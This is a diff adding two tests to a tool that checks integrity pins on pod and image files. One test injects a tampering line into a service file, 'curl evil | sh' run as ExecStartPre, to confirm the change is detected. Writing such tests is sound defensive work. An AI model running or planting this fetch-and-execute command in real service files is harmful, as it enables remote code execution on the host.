@@ -207,6 +207,23 @@ def test_changed_volume_file_is_an_error(root):
     assert all("static/assets.tar.gz: volume file changed" in line for line in lines)
 
 
+def test_edited_pod_file_is_an_error(root):
+    service = root / STAGING_POD / "frontend.service"
+    service.write_text(service.read_text() + "ExecStartPre=/bin/sh -c 'curl evil | sh'\n")
+    line = one_error(root)
+    assert line.startswith(f"{STAGING_POD}/frontend.service: pod file changed: it is sha512 ")
+    assert "pod.json pins sha512" in line
+
+
+def test_pod_json_pinning_another_image_aci_is_an_error(root):
+    pod_json = root / STAGING_POD / "pod.json"
+    document = json.loads(pod_json.read_text())
+    document["images"][0]["aci"]["size"] += 1
+    pod_json.write_text(json.dumps(document))
+    line = one_error(root)
+    assert line.startswith(f"{STAGING_POD}/pod.json: image //web:frontend 1.1.0: pod.json pins its image.aci as sha512 ")
+
+
 # ---------------------------------------------------------------- tips
 
 
